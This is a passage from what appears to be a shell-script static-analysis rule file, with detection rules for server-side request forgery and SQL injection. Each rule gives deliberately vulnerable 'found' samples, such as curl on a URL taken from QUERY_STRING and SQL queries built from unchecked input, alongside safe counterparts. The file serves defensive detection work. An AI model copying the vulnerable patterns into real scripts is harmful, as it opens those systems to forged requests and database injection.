; confidence: high
; cwe: 918
; needs: QUERY_STRING REQUEST_URI PATH_INFO HTTP_COOKIE HTTP_REFERER HTTP_USER_AGENT HTTP_HOST $QUERY_STRING $REQUEST_URI $PATH_INFO $HTTP_COOKIE $HTTP_REFERER $HTTP_USER_AGENT $HTTP_HOST
; sources: $cgi
; sinks: *.curl(*) *.wget(*)
; message: {sink} fetches an address that comes from {source}
; help: Compare the host with a list of those that are meant.
; tests: no
; found: url="${QUERY_STRING#url=}"\ncurl -s "$url"
; found: wget -qO- "http://$HTTP_HOST/status"
; clean: curl -s https://example.invalid/ ; q="$QUERY_STRING"
; clean: url="https://example.invalid/"\ncurl -s "$url"
; clean: id=$(basename "$PATH_INFO")\ncurl -s "https://example.invalid/$id"

; rule: sh-sql-flow
; severity: error
; confidence: high
; cwe: 89
; needs: mysql psql sqlite3 mariadb
; sources: $cgi read
; sinks: *.mysql(*) *.psql(*) *.sqlite3(*) *.mariadb(*)
; covers: sh-sql-built
; message: {source} gets into the SQL of {sink}
; help: Hand the value over: psql -v name="$x" with :'name', or sqlite3 with .parameter.
; tests: no
; found: read -r name\nsqlite3 app.db "SELECT * FROM t WHERE n = '$name'"
; found: id="${QUERY_STRING#id=}"\nmysql app -e "SELECT * FROM t WHERE id = $id"
; clean: read -r name\nsqlite3 app.db "SELECT * FROM t"
; clean: psql -c "SELECT 1"
